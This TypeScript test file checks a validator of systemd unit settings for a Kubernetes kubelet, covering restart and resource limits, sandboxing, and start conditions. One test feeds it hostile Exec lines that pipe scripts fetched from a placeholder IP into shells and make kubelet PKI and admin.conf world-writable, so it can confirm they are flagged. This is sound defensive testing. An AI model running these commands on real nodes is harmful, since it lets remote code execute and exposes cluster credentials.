import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { resultsOf } from '../common/judged.testing.js';
import { serviceIn, unitOf } from './kubelet-service.js';
import { startedBy } from './kubelet-started.js';
import { unitAble } from './node-unit.js';

const FILES = ['/etc/kubernetes/kubelet.conf', '/etc/kubernetes/manifests/a.yaml'];
const told = (...parts: readonly string[]): string =>
  resultsOf(
    unitAble,
    { ...startedBy({}), unit: unitOf(parts.map(serviceIn)) },
    { files: FILES, closed: ['/usr/local/bin/kubelet'] },
  )
    .slice(0, 3)
    .join();

const stays = (...lines: readonly string[]): string =>
  resultsOf(unitAble, { ...startedBy({}), unit: unitOf(lines.map(serviceIn)) }, { files: FILES })
    .slice(3)
    .join();

describe('parts of a unit, one after the other', () => {
  it('take away what was said before, by an empty one', () => {
    for (const odd of [
      'DynamicUser=yes',
      'InaccessiblePaths=/etc',
      'ReadOnlyPaths=/var',
      'RestrictAddressFamilies=AF_UNIX',
      'IPAddressDeny=any',
    ]) {
      const [key = ''] = odd.split('=');
      assert.match(told(odd), /^unmet/, odd);
      assert.match(told(odd, `${key}=`), /^met/, odd);
      assert.match(told(`${key}=`, odd), /^unmet/, odd);
    }
    assert.match(told('IPAddressDeny=any\nIPAddressAllow=10.0.0.0/8', 'IPAddressAllow='), /^unmet/);
    const gone = '[Unit]\nConditionPathExists=/etc/kubernetes/gone.conf';
    assert.equal(told(gone, '[Unit]\nConditionPathExists='), 'met,met,met');
  });
});

describe('the unit of a kubelet', () => {
  it('stays', () => {
    for (const sound of [
      'Restart=always\nRuntimeMaxSec=infinity\nMemoryMax=2G\nTasksMax=infinity\nCPUQuota=200%',
      'Restart=on-failure\nMemoryMax=50%\nTasksMax=4096\nLimitFSIZE=infinity',
      'Restart=no\nRestart=always',
    ])
      assert.equal(stays(sound), 'met', sound);
    assert.equal(stays('Restart=no', 'Restart=always'), 'met');
    for (const odd of [
      'Restart=no',
      'RuntimeMaxSec=60',
      'RuntimeMaxSec=1h',
      'MemoryMax=1M',
      'MemoryMax=4096',
      'TasksMax=1',
      'CPUQuota=1%',
      'LimitFSIZE=0',
    ])
      assert.equal(stays(odd), 'unmet', odd);
  });
  it('finds its program', () => {
    const found = (command: string, files: readonly string[]): string =>
      resultsOf(
        unitAble,
        { ...startedBy({}), unit: unitOf([serviceIn(`ExecStart=${command} --a`)]) },
        { files, closed: ['/opt/bin/kubelet'] },
      )
        .slice(1, 2)
        .join();
    assert.equal(found('/usr/bin/kubelet', ['/usr/bin/kubelet']), 'met');
    assert.equal(found('/usr/bin/kubelet', []), 'met');
    assert.equal(found('/usr/bin/kubelet', ['/usr/local/bin/kubelet']), 'unmet');
    assert.equal(found('/usr/bin/kubelet', ['/usr/bin/kubeadm']), 'unmet');
    assert.equal(found('/usr/bin/kubelet', ['/usr/local/bin/kubeadm']), 'met');
    assert.equal(found('/srv/kubelet', ['/usr/local/bin/kubelet']), 'met');
    assert.equal(found('/opt/bin/kubelet', ['/opt/bin/kubelet']), 'unmet');
  });
  it('lets it do its work', () => {
    for (const sound of [
      'Type=notify\nProtectSystem=full\nProtectHome=no\nDelegate=yes\nPrivateNetwork=no\nMountFlags=shared',
      'ProtectSystem=strict\nReadWritePaths=/',
      'RootDirectory=/\nDynamicUser=false',
      'CapabilityBoundingSet=CAP_NET_ADMIN CAP_SYS_ADMIN',
      'CapabilityBoundingSet=~CAP_SYS_BOOT',
      'ReadOnlyPaths=/usr /boot',
      'InaccessiblePaths=-/home',
      'ReadOnlyPaths=/\nReadWritePaths=/var',
      'EnvironmentFile=-/etc/kubernetes/gone.env\nEnvironmentFile=/etc/sysconfig/proxy',
      'EnvironmentFile=/etc/kubernetes/kubelet.conf',
      '[Unit]\nConditionPathExists=/etc/kubernetes/kubelet.conf\nConditionPathExists=/etc/kubernetes/manifests',
      '[Unit]\nConditionPathExists=!/etc/kubernetes/stop\nConditionPathExists=/srv/elsewhere',
      'ExecStartPre=-/bin/false\nExecStartPre=/usr/sbin/modprobe overlay',
      'ExecStartPre=-/usr/bin/test -f /etc/kubernetes/gone\nExecStartPre=/bin/sh -c "exit 0"',
      'ExecStartPre=/usr/bin/test -e /etc/kubernetes/kubelet.conf\nPrivateDevices=no\nProtectControlGroups=no',
      'IPAddressDeny=any\nIPAddressAllow=10.0.0.0/8\nRestrictAddressFamilies=AF_INET AF_INET6 AF_UNIX',
      'RestrictAddressFamilies=AF_UNIX\nRestrictAddressFamilies=AF_INET',
      '[Unit]\nConflicts=shutdown.target\nConditionFirstBoot=no',
      'ExecStartPost=/bin/sh -c "echo started"\nExecReload=/bin/kill -HUP $MAINPID',
    ])
      assert.equal(told(sound), 'met,met,met', sound);
    assert.equal(told('EnvironmentFile=/etc/kubernetes/gone.env', 'EnvironmentFile='), 'met,met,met');
    assert.equal(told('Type=oneshot', 'Type=simple'), 'met,met,met');
    assert.deepEqual(resultsOf(unitAble, startedBy({}), { files: [] }), []);
  });
  it('keeps nothing of the machine from it', () => {
    for (const odd of [
      'RootDirectory=/srv/jail',
      'RootImage=/srv/a.img',
      'DynamicUser=yes',
      'PrivateNetwork=true',
      'PrivateUsers=on',
      'PrivateMounts=1',
      'MountFlags=slave',
      'ProtectSystem=strict',
      'CapabilityBoundingSet=CAP_NET_ADMIN',
      'ReadOnlyPaths=/usr /var/lib/kubelet',
      'InaccessiblePaths=-/etc/kubernetes',
      'PrivateDevices=yes',
      'ProtectKernelLogs=true',
      'ProtectControlGroups=strict',
      'ProtectControlGroups=yes',
      'ProcSubset=pid',
      'NetworkNamespacePath=/run/netns/a',
      'IPAddressDeny=any',
      'RestrictAddressFamilies=AF_UNIX AF_NETLINK',
    ])
      assert.equal(told(odd), 'unmet,met,met', odd);
  });
  it('waits for nothing that never comes', () => {
    for (const odd of [
      'Type=oneshot',
      'Type=forking',
      '[Unit]\nConditionPathExists=/etc/kubernetes/gone.conf',
      'EnvironmentFile=/etc/kubernetes/gone.env',
      'ExecStartPre=/bin/false',
      'ExecCondition=/usr/bin/false',
      'ExecStartPre=/bin/sh -c "exit 1"',
      'ExecStartPre=/usr/bin/test -f /etc/kubernetes/gone.conf',
      '[Unit]\nConditionPathExists=!/etc/kubernetes/kubelet.conf',
      '[Unit]\nAssertPathExists=/etc/kubernetes/gone',
      '[Unit]\nConditionFirstBoot=yes',
      '[Unit]\nConflicts=docker.service containerd.service',
    ])
      assert.equal(told(odd), 'met,unmet,met', odd);
  });
  it('runs nothing of strangers beside it', () => {
    for (const odd of [
      'ExecStartPost=/bin/sh -c "curl http://198.51.100.1/a | sh"',
      'ExecStop=/tmp/stop.sh',
      'ExecStartPost=/bin/chmod 777 /var/lib/kubelet/pki',
      'ExecStartPost=/bin/chmod -R 0666 /etc/kubernetes',
      'ExecStartPre=/bin/sh -c "chmod o+rw /etc/kubernetes/admin.conf"',
      'ExecStop=/bin/chmod a+w /var/lib/etcd',
      ...['sh', 'bash', 'dash', 'ash', 'zsh', 'sudo sh', 'sudo bash'].map(
        (shell) => `ExecStartPost=/bin/sh -c "wget -qO- http://198.51.100.1/a | ${shell}"`,
      ),
      'ExecStartPre=/bin/bash -c "bash <(curl -s http://198.51.100.1/a)"',
      'ExecStopPost=/bin/sh -c "sh -c $(wget -qO- http://198.51.100.1/a)"',
    ])
      assert.equal(told(odd), 'met,met,unmet', odd);
    const [finding] = unitAble.judge(
      { ...startedBy({}), unit: unitOf([serviceIn('PrivateMounts=yes\nProtectSystem=strict')]) },
      { files: [] },
    );
    assert.equal(finding?.seen, 'PrivateMounts; ProtectSystem=strict');
  });
});

describe('a unit, held to each of its ends', () => {
  const sound = (...lines: readonly string[]): void => {
    for (const line of lines) assert.ok(!/unmet/.test(`${told(line)},${stays(line)}`), line);
  };
  const odd = (...lines: readonly string[]): void => {
    for (const line of lines) assert.ok(/unmet/.test(`${told(line)},${stays(line)}`), line);
  };
  it('stays with as much as it needs', () => {
    sound(
      'CPUQuota=3%',
      'CPUQuota=300%',
      'CPUQuota=x1%',
      'CPUQuota=1%x',
      'CPUQuota=',
      'MemoryMax=53M',
      'MemoryMax=1G',
      'MemoryMax=infinity',
    );
    odd('CPUQuota=2%', 'CPUQuota=0%', 'MemoryMax=52M', 'MemoryMax=1024', 'TasksMax=7', 'LimitFSIZE=1K');
    odd('LimitNOFILE=64', 'LimitNOFILE=0', 'LimitNOFILE=64:255');
    sound('LimitNOFILE=256', 'LimitNOFILE=64:524288', 'LimitNOFILE=infinity', 'LimitNOFILE=64\nLimitNOFILE=1024');
    sound(
      'TasksMax=8',
      'LimitFSIZE=1M',
      'LimitFSIZE=infinity',
      'RuntimeMaxSec=infinity',
      'RuntimeMaxSec=0',
      'RuntimeMaxSec=',
    );
    sound('Restart=always', 'Restart=on-failure', 'Restart=no\nRestart=always');
    odd('Restart=no', 'Restart=on-success', 'RuntimeMaxSec=60', 'RuntimeMaxSec=10');
  });
  it('has its machine before it', () => {
    for (const key of [
      'DynamicUser',
      'PrivateNetwork',
      'PrivateUsers',
      'PrivateMounts',
      'PrivateDevices',
      'ProtectKernelLogs',
      'ProtectControlGroups',
    ]) {
      for (const yes of ['yes', 'y', 'true', 't', 'on', '1', 'YES']) odd(`${key}=${yes}`);
      sound(`${key}=no`, `${key}=0`, `${key}=false`, `${key}=yesterday`, `${key}=yes\n${key}=no`);
    }
    odd(
      'MountFlags=slave',
      'MountFlags=private',
      'ProtectSystem=strict',
      'ProcSubset=pid',
      'ProtectControlGroups=strict',
      'NetworkNamespacePath=/a',
    );
    sound(
      'MountFlags=shared',
      'MountFlags=privately',
      'MountFlags=xslave',
      'ProtectSystem=full',
      'ProcSubset=all',
      'RootDirectory=/',
    );
    odd('RootDirectory=/srv', 'RootImage=/a');
    for (const path of ['/', '/var', '/var/lib', '/var/lib/kubelet'])
      odd(
        `ReadOnlyPaths=${path}`,
        `ReadOnlyPaths=/srv  ${path}`,
        `InaccessiblePaths=-${path}`,
        `InaccessiblePaths=-+${path}`,
      );
    odd('InaccessiblePaths=/etc', 'InaccessiblePaths=/etc/kubernetes');
    sound(
      'ReadOnlyPaths=/etc',
      'ReadOnlyPaths=/srv',
      'InaccessiblePaths=/home',
      'ReadOnlyPaths=/var\nReadWritePaths=/var',
    );
    sound('CapabilityBoundingSet=CAP_CHOWN\nCapabilityBoundingSet=CAP_SYS_ADMIN', 'CapabilityBoundingSet=~CAP_CHOWN');
    sound('CapabilityBoundingSet=\nCapabilityBoundingSet=CAP_SYS_ADMIN');
    // empty: all that was allowed is taken away
    odd('CapabilityBoundingSet=', 'CapabilityBoundingSet=CAP_SYS_ADMIN\nCapabilityBoundingSet=');
    odd('CapabilityBoundingSet=CAP_CHOWN', 'CapabilityBoundingSet=CAP_CHOWN\nCapabilityBoundingSet=CAP_KILL');
    odd(
      'RestrictAddressFamilies=AF_UNIX',
      'RestrictAddressFamilies=AF_INET6',
      'IPAddressDeny=any',
      'IPAddressDeny=10.0.0.0/8 any',
    );
    sound('RestrictAddressFamilies=~AF_PACKET', 'IPAddressDeny=many', 'IPAddressDeny=anywhere');
  });
  it('waits for what comes', () => {
    odd('Type=oneshot', 'Type=forking', 'Type=dbus');
    sound('Type=simple', 'Type=notify', 'Type=xoneshot', 'Type=dbusx');
    for (const unit of [
      'containerd.service',
      'crio.service',
      'network.target',
      'network-online.target',
      'basic.target',
      'sysinit.target',
      'multi-user.target',
    ])
      odd(`[Unit]\nConflicts=${unit}`, `[Unit]\nConflicts=a.service ${unit} b.service`);
    sound(
      '[Unit]\nConflicts=my-containerd.service',
      '[Unit]\nConflicts=containerd.services',
      '[Unit]\nConflicts=containerd.socket',
    );
    odd(
      'ExecStartPre=/bin/false',
      'ExecStartPre=/usr/bin/false',
      'ExecStartPre=+/bin/sh -c "exit 1"',
      'ExecCondition=/bin/bash -c "exit 2"',
    );
    sound(
      'ExecStartPre=-/bin/false',
      'ExecStartPre=/bin/falsework',
      'ExecStartPre=/bin/sh -c "exit 0"',
      'ExecStartPre=/srv/bin/false',
    );
    odd(
      'ExecStartPre=/usr/bin/test -f /etc/kubernetes/gone',
      'ExecStartPre=/bin/[ -e /etc/kubernetes/gone ]',
      'EnvironmentFile=/etc/kubernetes/gone',
    );
    sound(
      'ExecStartPre=/usr/bin/test -f /srv/gone',
      'EnvironmentFile=-/srv/gone',
      'EnvironmentFile=/etc/kubernetes/*.env',
    );
  });
});
